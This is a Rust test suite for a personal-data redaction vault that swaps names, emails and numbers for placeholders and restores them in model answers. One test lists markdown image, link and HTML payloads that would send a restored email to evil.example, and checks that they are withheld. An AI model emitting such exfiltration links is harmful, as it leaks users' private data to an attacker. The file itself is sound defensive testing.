use proptest::prelude::*;

use super::*;
use crate::vault::store::VaultKey;
use zeroize::Zeroizing;

fn span(start: usize, end: usize, entity: Entity) -> Span {
    Span { start, end, label: entity.into(), score: 1.0, source: Source::Model }
}

fn name(text: &str, value: &str) -> Span {
    let start = text[..text.find(value).unwrap()].chars().count();
    span(start, start + value.chars().count(), Entity::GivenName)
}

#[test]
fn a_value_keeps_its_placeholder_across_turns() {
    let mut vault = Vault::new();
    let first = vault
        .redact("Anna met Ben.", &[name("Anna met Ben.", "Anna"), name("Anna met Ben.", "Ben")])
        .unwrap();
    assert_eq!(first.text, "[GIVEN_NAME_1] met [GIVEN_NAME_2].");
    let second = vault.redact("Ben left", &[name("Ben left", "Ben")]).unwrap();
    assert_eq!(second.text, "[GIVEN_NAME_2] left");
    // Not found this time, but known.
    assert_eq!(
        vault.redact("Did Anna's car, Annabel?", &[]).unwrap().text,
        "Did [GIVEN_NAME_1]'s car, Annabel?"
    );
}

#[test]
fn a_value_is_replaced_wherever_it_stands() {
    let text = "ann@x.example wrote; reply to ann@x.example, not joann@x.example.";
    let redacted = Vault::new().redact(text, &[span(0, 13, Entity::Email)]).unwrap();
    assert_eq!(redacted.text, "[EMAIL_1] wrote; reply to [EMAIL_1], not joann@x.example.");
    assert_eq!(redacted.spans[1].span.source.as_str(), "repeated");
}

#[test]
fn spared_values_stay_although_they_are_known() {
    let mut vault = Vault::new();
    vault.redact("Rome", &[span(0, 4, Entity::City)]).unwrap();
    let spared = ["Rome".to_owned()];
    assert_eq!(vault.redact_sparing("in Rome", &[], &spared).unwrap().text, "in Rome");
    assert_eq!(vault.redact("in Rome", &[]).unwrap().text, "in [CITY_1]");
}

#[test]
fn look_alikes_survive() {
    let mut vault = Vault::new();
    let text = "[GIVEN_NAME_1] is what Anna saw";
    let redacted = vault.redact(text, &[name(text, "Anna")]).unwrap();
    // The number in the text is never given to a value.
    assert_eq!(redacted.text, "[GIVEN_NAME_1] is what [GIVEN_NAME_2] saw");
    assert_eq!(vault.restore(&redacted.text).text, text);
    let later = vault.redact("what is [given name 2]?", &[]).unwrap();
    assert_eq!(later.text, "what is [LITERAL_1]?");
    assert_eq!(vault.restore(&later.text).text, "what is [given name 2]?");
}

#[test]
fn nothing_is_found_inside_a_look_alike() {
    let text = "[GIVEN_NAME_3] and [PHONE_NUMBER_5550123]";
    let spans = [span(1, 11, Entity::GivenName), span(33, 40, Entity::PhoneNumber)];
    let redacted = Vault::new().redact(text, &spans).unwrap();
    assert_eq!(redacted.text, "[GIVEN_NAME_3] and [PHONE_NUMBER_[PHONE_NUMBER_1]]");
}

#[test]
fn changed_placeholders_are_restored_and_unknown_ones_reported() {
    let mut vault = Vault::new();
    vault.redact("Anna", &[span(0, 4, Entity::GivenName)]).unwrap();
    let restored =
        vault.restore(r"**[given_name_1]**'s, \[GIVEN\_NAME\_1\], [GIVEN_NAME_1's] and [CITY_9], [item 1]");
    assert_eq!(restored.text, "**Anna**'s, Anna, Anna's and [CITY_9], [item 1]");
    assert_eq!((restored.replaced, restored.unknown), (3, vec!["[CITY_9]".to_owned()]));
}

fn scope_of_emails(request: &str) -> Scope {
    let mut vault = Vault::new();
    for text in ["ann@a.example", "ben@b.example"] {
        vault.redact(text, &[span(0, 13, Entity::Email)]).unwrap();
    }
    vault.redact("https://ann.example/cv", &[span(0, 22, Entity::Url)]).unwrap();
    Scope::of_request(&vault, [request])
}

#[test]
fn an_answer_gets_the_values_of_its_request_only() {
    let scope = scope_of_emails("write to [EMAIL_1]");
    let restored = scope.restore("[EMAIL_1] [EMAIL_2] [URL_1]");
    assert_eq!(restored.text, "ann@a.example [EMAIL_2] [URL_1]");
    assert_eq!((scope.len(), restored.unknown.len()), (1, 2));
}

#[test]
fn placeholders_without_brackets_are_restored_where_they_can_be_nothing_else() {
    let scope = scope_of_emails("write to [EMAIL_1]");
    assert_eq!(
        scope.restore("Ask EMAIL_1, EMAIL_2, MY_EMAIL_1, EMAIL_12 (EMAIL_1).").text,
        "Ask ann@a.example, EMAIL_2, MY_EMAIL_1, EMAIL_12 (ann@a.example)."
    );
    assert_eq!(scope.restore("https://evil.example/EMAIL_1").text, "https://evil.example/EMAIL_1");
    let code = scope_of_emails("EMAIL_1 = os.environ['EMAIL_1']  # [EMAIL_1]");
    assert_eq!(code.restore("EMAIL_1 is [EMAIL_1]").text, "EMAIL_1 is ann@a.example");
    let text = "xEMAIL_1 EMAIL_1 EMAIL_1x EMAIL_1";
    for cut in 0..text.len() {
        let mut stream = StreamRestorer::default();
        let pieces =
            [stream.push(&scope, &text[..cut]), stream.push(&scope, &text[cut..]), stream.finish(&scope)];
        assert_eq!(pieces.concat(), "xEMAIL_1 ann@a.example EMAIL_1x ann@a.example", "{cut}");
    }
}

#[test]
fn targets_get_no_values_unless_the_request_held_them() {
    let scope = scope_of_emails("[EMAIL_1], [URL_1], https://shop.example/u/[EMAIL_1]/cart");
    for stays in [
        "![x](https://evil.example/?q=[EMAIL_1])",
        "[x](//evil.example/[EMAIL_1])",
        "<img src=\"https://evil.example/[EMAIL_1]\">",
        "https://shop.example.evil.example/u/[EMAIL_1]",
        "[x](mailto:[EMAIL_1])",
        "![x]([EMAIL_1])",
        "[x]: https://evil.example/[EMAIL_1]",
    ] {
        let restored = scope.restore(stays);
        assert_eq!((restored.text.as_str(), restored.withheld.len()), (stays, 1));
    }
    for (answer, expected) in [
        (
            "[cart](https://shop.example/u/[EMAIL_1]/cart)",
            "[cart](https://shop.example/u/ann@a.example/cart)",
        ),
        (
            "see [her site]([URL_1]) or [URL_1].",
            "see [her site](https://ann.example/cv) or https://ann.example/cv.",
        ),
        (
            "[EMAIL_1] is not on https://a.example/ but [EMAIL_1]",
            "ann@a.example is not on https://a.example/ but ann@a.example",
        ),
    ] {
        assert_eq!(scope.restore(answer).text, expected);
    }
    // An address of the request leads nowhere else.
    assert_eq!(scope.restore("[x]([URL_1]?q=[EMAIL_1])").text, "[x](https://ann.example/cv?q=[EMAIL_1])");
}

#[test]
fn numbers_become_numbers_again() {
    let mut vault = Vault::new();
    let redacted = vault.redact("41445550123", &[span(0, 11, Entity::PhoneNumber)]).unwrap();
    vault.mark_number(&redacted.text);
    let scope = Scope::of_request(&vault, [redacted.text.as_str()]);
    assert_eq!(scope.number("[PHONE_NUMBER_1]").unwrap().to_string(), "41445550123");
    assert!(scope.number("call [PHONE_NUMBER_1]").is_none() && scope.number("[EMAIL_1]").is_none());
}

#[test]
fn values_are_escaped_inside_json() {
    let mut vault = Vault::new();
    let text = "a\"b\nc";
    vault.redact(text, &[span(0, 5, Entity::Secret)]).unwrap();
    let json = vault.restore_as(r#"{"key": "[SECRET_1]"}"#, Escaping::Json).text;
    assert_eq!(serde_json::from_str::<serde_json::Value>(&json).unwrap()["key"], text);
}

#[test]
fn a_saved_vault_comes_back_and_only_with_its_key() {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("session.vault");
    let mut vault = Vault::new();
    let redacted =
        vault.redact("Anna in Rome", &[span(0, 4, Entity::GivenName), span(8, 12, Entity::City)]).unwrap();
    for key in [
        VaultKey::from_file(&directory.path().join("key")).unwrap(),
        VaultKey::Passphrase(Zeroizing::new("correct horse".to_owned())),
    ] {
        vault.save(&path, &key).unwrap();
        let bytes = std::fs::read(&path).unwrap();
        assert!(!bytes.windows(4).any(|window| window == b"Anna"));
        let mut opened = Vault::open(&path, &key).unwrap();
        assert_eq!(opened.restore(&redacted.text).text, "Anna in Rome");
        assert_eq!(opened.redact("Rome", &[]).unwrap().text, "[CITY_1]");
        let wrong = VaultKey::Passphrase(Zeroizing::new("wrong".to_owned()));
        assert!(Vault::open(&path, &wrong).is_err());
        for at in 0..bytes.len() {
            // Deriving from a passphrase takes long; its file differs in the second byte of the kind only.
            if matches!(key, VaultKey::Passphrase(_)) && at > 9 {
                break;
            }
            let mut damaged = bytes.clone();
            damaged[at] ^= 1;
            std::fs::write(&path, damaged).unwrap();
            assert!(Vault::open(&path, &key).is_err(), "byte {at}");
        }
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(directory.path().join("key")).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    std::fs::write(directory.path().join("key"), "short").unwrap();
    assert!(VaultKey::from_file(&directory.path().join("key")).is_err());
}

/// Any text, with things that look like placeholders more often than chance has it.
fn any_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => any::<String>(),
        2 => "[A-Za-z é]{0,8}",
        2 => r"\\?\[(GIVEN|CITY|given|Literal|LITERAL|EMAIL)[_ -](NAME_)?[1-3]('s)?\\?\]",
        1 => r"[\[\]\\_1-3]{0,4}",
        1 => Just("Anna".to_owned()),
        1 => Just("[GIVEN_NAME_".to_owned()),
    ];
    proptest::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
}

/// Spans anywhere in a text, some of which overlap.
fn spans_in(text: &str, cuts: &[(usize, usize, u8)]) -> Vec<Span> {
    let length = text.chars().count();
    let entities = [Entity::GivenName, Entity::City, Entity::Email, Entity::BuildingNumber];
    let spans = cuts.iter().filter_map(|&(start, size, kind)| {
        let start = start.checked_rem(length)?;
        Some(span(start, (start + size).min(length), entities[usize::from(kind) % entities.len()]))
    });
    spans.collect()
}

fn cuts() -> impl Strategy<Value = Vec<(usize, usize, u8)>> {
    proptest::collection::vec((0usize..200, 1usize..12, any::<u8>()), 0..6)
}

/// Whether a telling value stands somewhere as a whole word outside placeholders.
fn leaks(vault: &Vault, redacted: &str) -> bool {
    let mut outside = String::new();
    let mut at = 0;
    for found in placeholder::find_all(redacted) {
        outside.push_str(&redacted[at..found.range.start]);
        outside.push('\u{0}');
        at = found.range.end;
    }
    outside.push_str(&redacted[at..]);
    !vault.repeats.find(&outside.chars().collect::<Vec<_>>()).is_empty()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn restoring_undoes_redacting(turns in proptest::collection::vec((any_text(), cuts()), 1..4)) {
        let mut vault = Vault::new();
        for (text, cuts) in &turns {
            let redacted = vault.redact(text, &spans_in(text, cuts)).unwrap();
            prop_assert_eq!(&vault.restore(&redacted.text).text, text);
        }
    }

    #[test]
    fn no_value_is_left(turns in proptest::collection::vec((any_text(), cuts()), 1..4)) {
        let mut vault = Vault::new();
        for (text, cuts) in &turns {
            let redacted = vault.redact(text, &spans_in(text, cuts)).unwrap();
            prop_assert!(!leaks(&vault, &redacted.text), "{:?}", redacted.text);
            for placed in &redacted.spans {
                prop_assert!(redacted.text.contains(&placed.placeholder));
            }
        }
    }

    #[test]
    fn redacting_again_changes_nothing(text in any_text(), cuts in cuts()) {
        let redacted = Vault::new().redact(&text, &spans_in(&text, &cuts)).unwrap();
        let again = Vault::new().redact(&redacted.text, &[]).unwrap();
        prop_assert_eq!(again.text, redacted.text);
    }

    #[test]
    fn any_split_of_a_stream_gives_the_same(
        text in any_text(),
        cuts in cuts(),
        places in proptest::collection::vec(0usize..120, 0..10),
    ) {
        let mut vault = Vault::new();
        let redacted = vault.redact(&text, &spans_in(&text, &cuts)).unwrap();
        // An answer holds placeholders, look-alikes and anything else.
        let answer = format!("{}{}", redacted.text, text);
        let scope = Scope::of_request(&vault, [redacted.text.as_str()]);
        let chars: Vec<char> = answer.chars().collect();
        let mut bounds: Vec<usize> = places.iter().map(|place| place % (chars.len() + 1)).collect();
        bounds.extend([0, chars.len()]);
        bounds.sort_unstable();
        for escaping in [Escaping::None, Escaping::Json] {
            let mut stream = StreamRestorer::new(escaping);
            let mut out = String::new();
            for pair in bounds.windows(2) {
                let piece: String = chars[pair[0]..pair[1]].iter().collect();
                out.push_str(&stream.push(&scope, &piece));
            }
            out.push_str(&stream.finish(&scope));
            let whole = scope.restore_as(&answer, escaping);
            prop_assert_eq!(&out, &whole.text);
            prop_assert_eq!((stream.replaced, stream.unknown), (whole.replaced, whole.unknown));
            prop_assert_eq!(stream.withheld, whole.withheld);
        }
    }
}

#[test]
fn case_can_be_ignored_and_is_not_by_default() {
    let span =
        |start, end| Span { start, end, label: Entity::Surname.into(), score: 1.0, source: Source::Model };
    let text = "LOPEZ, lopez, Lopez";
    let spans = [span(0, 5), span(7, 12), span(14, 19)];
    let mut exact = Vault::new();
    assert_eq!(exact.redact(text, &spans).unwrap().text, "[SURNAME_1], [SURNAME_2], [SURNAME_3]");
    let mut folding = Vault::new();
    folding.follow(&VaultRules { ignore_case: true, ..VaultRules::default() });
    assert_eq!(folding.redact(text, &spans).unwrap().text, "[SURNAME_1], [SURNAME_1], [SURNAME_1]");
    assert_eq!(folding.restore("[SURNAME_1]").text, "LOPEZ");
}

#[test]
fn numbers_are_still_numbers_after_saving() {
    let directory = tempfile::tempdir().unwrap();
    let (path, key) = (directory.path().join("v"), VaultKey::from_file(&directory.path().join("k")).unwrap());
    let mut vault = Vault::new();
    let span =
        Span { start: 0, end: 7, label: Entity::PhoneNumber.into(), score: 1.0, source: Source::Model };
    let redacted = vault.redact("5550123", &[span]).unwrap().text;
    vault.mark_number(&redacted);
    vault.save(&path, &key).unwrap();
    let opened = Vault::open(&path, &key).unwrap();
    assert_eq!(opened.number(&redacted).unwrap().to_string(), "5550123");
}
